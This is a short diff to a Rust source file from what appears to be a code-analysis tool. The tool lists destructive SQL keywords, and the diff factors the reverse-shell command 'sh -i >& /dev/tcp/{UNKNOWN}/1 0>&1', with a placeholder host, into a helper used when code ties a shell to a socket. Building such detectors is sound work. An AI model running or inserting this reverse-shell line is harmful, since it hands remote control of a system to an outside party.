@@ -25,6 +25,7 @@ const DESTROYING: &[&str] = &["ALTER", "DELETE", "DROP", "TRUNCATE", "UPDATE"];
 
 /// What a look at the tokens tells about code as a whole.
 #[derive(Debug, Clone, Copy, Default)]
+#[expect(clippy::struct_excessive_bools, reason = "each is a fact of its own")]
 pub(super) struct Traits {
     /// Something is decided by a condition, so that a listing may be filtered.
     pub(super) chooses: bool,
@@ -67,11 +68,16 @@ pub(super) fn is_waiting_shell<'w>(words: impl IntoIterator<Item = &'w str>) -> 
         && words.all(|word| word.contains(['<', '>']) || word.starts_with('-') && !word.ends_with('c'))
 }
 
+/// A shell that is tied to a socket, as a command.
+pub(super) fn remote_shell() -> String {
+    format!("sh -i >& /dev/tcp/{UNKNOWN}/1 0>&1")
+}
+
 impl State<'_> {
     /// Notes a shell that is tied to a socket, if the code has one.
     pub(super) fn shell_waits(&mut self) {
         if std::mem::take(&mut self.traits.connects) {
-            self.script(&format!("sh -i >& /dev/tcp/{UNKNOWN}/1 0>&1"), None);
+            self.script(&remote_shell(), None);
         }
     }
 
